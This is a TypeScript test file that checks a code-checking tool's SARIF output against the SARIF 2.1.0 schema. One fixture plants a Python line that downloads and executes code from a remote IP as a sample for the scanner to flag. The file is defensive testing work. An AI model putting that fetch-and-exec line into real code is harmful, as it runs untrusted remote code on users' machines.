import assert from 'node:assert/strict'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import Ajv from 'ajv-draft-04'
import addFormats from 'ajv-formats'
import { folderWith, packOf, Terminal } from '../run.test-support.ts'

const root = join(import.meta.dirname, '../../..')
const samples = join(root, 'server/demo/packs')
const ajv = new Ajv.default({ strict: false, allErrors: true })
addFormats.default(ajv)
const schema = readFileSync(join(root, 'scripts/release/schemas/sarif-schema-2.1.0.json'), 'utf8')
const isValid = ajv.compile(JSON.parse(schema))

/** Returns the results of a check, after comparing it with the schema of SARIF 2.1.0. */
async function resultsOf(folder: string): Promise<{ ruleId: string }[]> {
  const { stdout, stderr } = await new Terminal().run('check', folder, '--format', 'sarif')
  assert.equal(stderr, '')
  const log: { runs: { results: { ruleId: string }[] }[] } = JSON.parse(stdout)
  assert.ok(isValid(log), JSON.stringify(isValid.errors?.slice(0, 5)))
  return log.runs[0]?.results ?? []
}

describe('a check as SARIF', () => {
  for (const name of readdirSync(samples))
    it(`is valid for ${name}`, async () => {
      await resultsOf(join(samples, name))
    })

  it('is valid for findings in files with unusual names, and for refusals', async () => {
    const danger = 'import requests\nexec(requests.get("http://203.0.113.9").text)\n'
    const found = await resultsOf(await folderWith({ ...packOf('a', 'acme'), 'ä b#?%.py': danger }))
    assert.ok(found.length > 0)
    const refused = await resultsOf(await folderWith({ ...packOf('a', 'acme'), 'a.txt': '1', 'A.txt': '2' }))
    assert.ok(refused.length > 0)
  })

  it('would not be valid without a message', () => {
    assert.ok(!isValid({ version: '2.1.0', runs: [{ tool: { driver: { name: 'a' } }, results: [{}] }] }))
  })
})
